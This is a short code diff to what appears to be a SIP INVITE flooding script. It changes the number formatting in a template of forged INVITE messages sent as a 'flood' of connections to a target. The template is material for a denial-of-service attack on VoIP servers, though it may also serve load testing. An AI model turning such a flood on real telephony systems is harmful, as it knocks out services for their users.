@@ -23,9 +23,9 @@ OPEN_MAX = 900
 """Connections that the flood of connections keeps open; the oldest goes first."""
 
 INVITE = (
-    b"INVITE sip:0443%(n)07d@%(to)s SIP/2.0\r\n"
+    b"INVITE sip:0443%(n)012d@%(to)s SIP/2.0\r\n"
     b"Via: SIP/2.0/UDP %(source)s:%(port)05d;branch=z9hG4bK%(n)012d\r\n"
-    b"From: <sip:0525550100@%(source)s>;tag=%(n)012d\r\nTo: <sip:0443%(n)07d@%(to)s>\r\n"
+    b"From: <sip:0525550100@%(source)s>;tag=%(n)012d\r\nTo: <sip:0443%(n)012d@%(to)s>\r\n"
     b"Call-ID: %(n)012d@flood\r\nCSeq: 1 INVITE\r\nContact: <sip:flood@%(source)s:%(port)05d>\r\n"
     b"Max-Forwards: 70\r\nContent-Type: application/sdp\r\nContent-Length: 130\r\n\r\n" + b"v=0".ljust(130)
 )
